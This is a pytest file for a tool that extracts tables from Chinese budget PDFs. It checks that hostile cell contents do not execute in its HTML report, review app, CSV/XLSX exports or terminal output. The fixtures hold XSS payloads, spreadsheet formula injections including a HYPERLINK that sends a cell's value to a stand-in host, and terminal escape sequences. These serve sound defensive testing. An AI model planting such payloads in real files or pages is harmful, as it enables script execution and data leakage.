"""A PDF whose cells hold scripts, formulas and terminal codes: harmless whatever is made of it."""

import csv
import html
from pathlib import Path
from typing import Any

import html5lib
import openpyxl
import pyarrow.dataset as ds
import pytest
from starlette.testclient import TestClient

from yusuan.report.html import ReportSettings, report_html
from yusuan.review.app import Review, make_app

from .conftest import pdf_bytes

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://x.example/"&A1,"合计")'
LATE = "办公费;=1+1"
STEERING = "\x1b[31m红\u202e反\x1b]0;t\x07"
TEXTS = (SCRIPT, FORMULA, LATE, STEERING, "+1+1", "@SUM(A1)", "<img src=x onerror=alert(1)>")
TITLE = f"一般公共预算财政拨款支出表{SCRIPT}"


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """The PDF, and its dataset, made by the command line."""
    from yusuan.inputs import find_inputs
    from yusuan.run import RunSettings, run

    root = tmp_path_factory.mktemp("hostile")
    path = root / "=cmd<b>.pdf"
    rows = [(text, f"{at + 1}.00") for at, text in enumerate(TEXTS)]
    path.write_bytes(pdf_bytes((("项目", "预算数"), *rows), TITLE, col_width=240))
    run(find_inputs([str(path)]), root / "out", RunSettings(workers=1))
    return path, root / "out"


def texts(out: Path) -> list[str]:
    return ds.dataset(out / "cells").to_table(columns=["text"])["text"].drop_null().to_pylist()


def test_the_texts_are_in_the_dataset_as_they_were_printed(made: tuple[Path, Path]) -> None:
    found = texts(made[1])
    assert {SCRIPT, LATE, "+1+1", "@SUM(A1)"} <= set(found)
    assert any(text.startswith("=HYPERLINK") for text in found)
    assert any("红" in text for text in found)


def test_report_and_review_show_them_and_run_nothing(made: tuple[Path, Path]) -> None:
    _, out = made
    doc_id = ds.dataset(out / "documents").to_table()["doc_id"][0].as_py()
    pages = [report_html(out, ReportSettings())]
    with TestClient(
        make_app(Review(out, out / "c", "li")), base_url="http://127.0.0.1:8321"
    ) as client:
        pages += [client.get("/").text, client.get(f"/page/{doc_id}/1").text]
    for page in pages:
        parser = html5lib.HTMLParser(namespaceHTMLElements=False)
        tree = parser.parse(page)
        assert not parser.errors, parser.errors[:3]
        assert all(one.get("src") == "/static/review.js" for one in tree.iter("script"))
        assert not [one for one in tree.iter() if any(name.startswith("on") for name in one.attrib)]
        assert "\x1b" not in page and "\x07" not in page
    assert all(html.escape(SCRIPT) in page for page in (pages[0], pages[2]))


def test_no_export_holds_a_formula(made: tuple[Path, Path], tmp_path: Path, cli: Any) -> None:
    _, out = made
    assert cli("export", out, "--to", "csv", "-t", "cells", "-o", tmp_path / "csv")[0] == 0
    data = (tmp_path / "csv" / "cells.csv").read_text(encoding="utf-8-sig")
    for cut in (",", ";"):  # what Excel makes of the file depends on the system's list separator
        for line in csv.reader(data.splitlines(), delimiter=cut):
            assert not [field for field in line if field.lstrip()[:1] in tuple("=+@")]
    assert cli("export", out, "--to", "xlsx", "-t", "cells", "-o", tmp_path / "x.xlsx")[0] == 0
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert LATE in {cell.value for cell in cells}


@pytest.mark.parametrize(("name", "at"), [("show", 1), ("check", 1), ("inspect", 0), ("diff", 1)])
def test_nothing_printed_steers_the_terminal(
    made: tuple[Path, Path], tmp_path: Path, cli: Any, name: str, at: int
) -> None:
    more = {"inspect": ["--page", 1, "-o", tmp_path / "p.png"], "diff": [made[1]]}.get(name, [])
    code, told, err = cli(name, made[at], *more)
    assert code in (0, 1) and told
    assert not {"\x1b", "\x07", "\u202e"} & set(told + err)
